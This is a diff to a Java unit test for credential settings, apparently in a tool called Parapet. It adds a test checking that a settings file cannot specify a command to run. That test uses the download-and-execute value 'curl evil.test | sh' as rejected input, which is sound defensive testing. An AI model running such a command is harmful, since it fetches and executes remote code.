@@ -40,8 +40,7 @@ class CredentialSettingsTest {
     void environmentAndFileLayersGiveCredentialsTooAndFlagsWin() {
         Map<String, String> env = ConfigLoader.fromEnvironment(Map.of("PARAPET_AUTH_BEARER", "from-env-token",
                 "PARAPET_AUTH2_HEADER", "X-API-Key: env-key-2"));
-        Identities ids = identities(Map.of("auth-bearer", "from-file-token", "auth-command", "echo hi"), env,
-                Map.of());
+        Identities ids = identities(Map.of("auth-bearer", "from-file-token"), env, Map.of("auth-command", "echo hi"));
         assertThat(ids.primary().headers()).containsExactly(new Headers.Field("Authorization", "Bearer from-env-token"));
         assertThat(ids.primary().command()).isEqualTo("echo hi");
         assertThat(ids.secondary().headers()).containsExactly(new Headers.Field("X-API-Key", "env-key-2"));
@@ -98,5 +97,16 @@ class CredentialSettingsTest {
         assertThat(identities(ConfigLoader.readFile(yaml), Map.of(), Map.of()).primary().headers()).containsExactly(
                 new Headers.Field("X-API-Key", "k1,k2"), new Headers.Field("X-Tenant", "tenant-zz91"));
         assertThat(List.of(ConfigLoader.KEYS.contains("auth2-command"))).containsExactly(true);
+    }
+
+    @Test
+    void aSettingsFileMayNotNameACommandToRun() {
+        org.assertj.core.api.Assertions.assertThatThrownBy(() -> identities(Map.of("auth2-command", "curl evil.test | sh"),
+                        Map.of(), Map.of()))
+                .isInstanceOf(ConfigException.class)
+                .hasMessage("parapet.yaml: auth2-command is not read from a settings file, which must never run a "
+                        + "command; give it as --auth2-command or PARAPET_AUTH2_COMMAND");
+        assertThat(identities(Map.of(), ConfigLoader.fromEnvironment(Map.of("PARAPET_AUTH_COMMAND", "echo t0ken")),
+                Map.of()).primary().command()).isEqualTo("echo t0ken");
     }
 }
